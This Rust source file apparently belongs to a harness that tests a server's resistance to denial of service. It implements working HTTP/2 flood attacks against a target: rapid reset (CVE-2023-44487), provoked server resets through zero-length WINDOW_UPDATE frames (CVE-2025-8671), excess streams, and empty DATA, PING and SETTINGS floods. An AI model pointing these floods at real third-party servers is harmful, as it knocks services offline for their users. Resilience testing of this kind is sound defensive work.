//! Floods of HTTP/2 frames: each costs the attacker some bytes, and us whatever they make us do.

use crate::attack::Attack;
use crate::attack::attacks;
use crate::force::Force;
use crate::force::Tally;
use crate::frames;
use crate::frames::DATA;
use crate::frames::PING;
use crate::frames::RST_STREAM;
use crate::frames::SETTINGS;
use crate::frames::WINDOW_UPDATE;
use crate::target::Target;
use crate::wire;
use crate::wire::HTTP2;
use std::io::Write;

/// RFC 9113 §7.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Stream identifiers have 31 bits.
const STREAM_MAX: u32 = 1 << 31;

/// Frames as fast as TLS takes them.
const FRAMES: Attack = Attack { most: 5_000_000, cpu_millis_each: 1, ..Attack::COMMON };

attacks! {
    requests_taken_back_end_their_connection: Attack { name: "HTTP/2 rapid reset", run: rapid_reset, ..FRAMES };
    a_tenants_requests_taken_back_harm_nobody_else:
        Attack { name: "HTTP/2 rapid reset", by: "tenant", run: rapid_reset_of_a_tenant, ..FRAMES };
    resets_that_we_are_made_to_send_end_their_connection:
        Attack { name: "HTTP/2 resets we are made to send", run: made_resets, ..FRAMES };
    requests_beyond_what_may_be_open_harm_nobody:
        Attack { name: "HTTP/2 requests without credentials", run: requests, ..FRAMES };
    data_with_nothing_in_it_harms_nobody:
        Attack { name: "HTTP/2 DATA with nothing in it", by: "tenant", run: empty_data, ..FRAMES };
    pings_without_end_harm_nobody: Attack { name: "HTTP/2 PING", run: pings, ..FRAMES };
    settings_without_end_harm_nobody: Attack { name: "HTTP/2 SETTINGS", run: settings, ..FRAMES };
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(crate) fn rapid_reset(target: &Target, force: Force) -> Tally {
    resets(target, force, "")
}

/// Those of a tenant, which would get further.
pub(crate) fn rapid_reset_of_a_tenant(target: &Target, force: Force) -> Tally {
    resets(target, force, &target.bad)
}

fn resets(target: &Target, force: Force, authorization: &str) -> Tally {
    on_new_streams(target, force, |stream| {
        let request = frames::request(stream, "GET", "/metrics", authorization, false);
        [request, frames::frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    })
}

/// Requests that make us take them back, by a window update of nothing (CVE-2025-8671).
pub(crate) fn made_resets(target: &Target, force: Force) -> Tally {
    on_new_streams(target, force, |stream| {
        let request = frames::request(stream, "GET", "/metrics", "", false);
        [request, frames::frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
    })
}

/// As many requests as there may be at one time, and more.
pub(crate) fn requests(target: &Target, force: Force) -> Tally {
    on_new_streams(target, force, |stream| frames::request(stream, "GET", "/metrics", "", false))
}

pub(crate) fn empty_data(target: &Target, force: Force) -> Tally {
    let begin = frames::request(1, "PUT", "/metrics/job/empty", &target.bad, true);
    flood(target, force, &begin, |_| frames::frame(DATA, 0, 1, b""))
}

pub(crate) fn pings(target: &Target, force: Force) -> Tally {
    flood(target, force, b"", |_| frames::frame(PING, 0, 0, b"pingping"))
}

pub(crate) fn settings(target: &Target, force: Force) -> Tally {
    flood(target, force, b"", |_| frames::frame(SETTINGS, 0, 0, b""))
}

fn on_new_streams(target: &Target, force: Force, frames: impl Fn(u32) -> Vec<u8>) -> Tally {
    flood(target, force, b"", |nth| frames((nth * 2 + 1) % STREAM_MAX))
}

/// Frames as fast as they are taken, with what comes read away; and again on another connection when one is ended.
/// `frames` is given which these are on their connection.
fn flood(target: &Target, force: Force, opening: &[u8], frames: impl Fn(u32) -> Vec<u8>) -> Tally {
    let mut tally = Tally::default();
    while force.goes_on(&tally) {
        let Ok(mut line) = target.attack(HTTP2) else { continue };
        let mut open = line.write_all(&[frames::opening().as_slice(), opening].concat()).is_ok();
        let mut nth = 0;
        while open && force.goes_on(&tally) {
            let batch: Vec<u8> = (nth..nth + BATCH).flat_map(&frames).collect();
            nth += BATCH;
            tally.tries += u64::from(BATCH);
            tally.bytes += batch.len() as u64;
            open = line.write_all(&batch).is_ok() && !wire::drain(&mut line).closed;
        }
        tally.closed += u64::from(!open);
    }
    tally
}

/// Frames of one write.
const BATCH: u32 = 100;
